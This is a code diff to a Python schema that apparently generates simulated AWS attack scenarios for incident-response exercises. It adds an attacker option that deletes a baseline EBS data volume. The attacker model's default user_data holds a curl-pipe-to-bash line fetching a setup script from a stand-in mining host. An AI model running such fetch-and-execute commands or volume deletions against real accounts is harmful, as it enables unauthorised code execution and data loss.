@@ -91,6 +91,14 @@ class InstanceGroup(_Model):
     count: int = Field(default=1, ge=1, le=3)
 
 
+class DataVolume(_Model):
+    """A detached EBS data volume in the primary region, with a snapshot taken before the incident."""
+
+    name: str = Field(description="Name tag")
+    size_gib: int = Field(default=20, ge=1, le=1024)
+    volume_type: Literal["gp2", "gp3", "io1", "st1", "sc1"] = "gp3"
+
+
 class Baseline(_Model):
     admin_user: ResourceName
     admin_ip: IpAddress = Field(description="Where the administrator works from")
@@ -105,6 +113,7 @@ class Baseline(_Model):
     instances: list[InstanceGroup] = Field(min_length=1)
     web_security_group: ResourceName | None = Field(default=None, description="Allows 443 from 0.0.0.0/0")
     snapshot: bool = Field(default=False, description="An older EBS snapshot of the first instance")
+    data_volume: DataVolume | None = Field(default=None, description="A data volume with an earlier snapshot")
     trail_name: ResourceName
     trail_bucket: str
 
@@ -201,6 +210,7 @@ class Attacker(_Model):
     security_groups: list[OpenSecurityGroup] = Field(min_length=1)
     lambda_functions: list[LambdaFunction] = Field(min_length=1)
     image_id: str = "ami-0f3a440bbcff3d043"
+    delete_volumes: bool = Field(default=False, description="Delete the baseline's data volume (DeleteVolume)")
     user_data: str = "#!/bin/bash\ncurl -s http://pool.example.net/setup.sh | bash\n"
 
     @field_validator("external_account_id")
@@ -309,6 +319,8 @@ class Scenario(_Model):
         functions = [(f.region, f.name) for f in attacker.lambda_functions]
         if len(set(functions)) != len(functions):
             raise ValueError("lambda function names repeat in a region")
+        if attacker.delete_volumes and self.baseline.data_volume is None:
+            raise ValueError("attacker.delete_volumes needs a baseline data_volume to delete")
         policies = [self.baseline.ci_policy_name] + ([attacker.custom_policy.name] if attacker.custom_policy else [])
         if len(set(policies)) != len(policies):
             raise ValueError("policy names must differ")
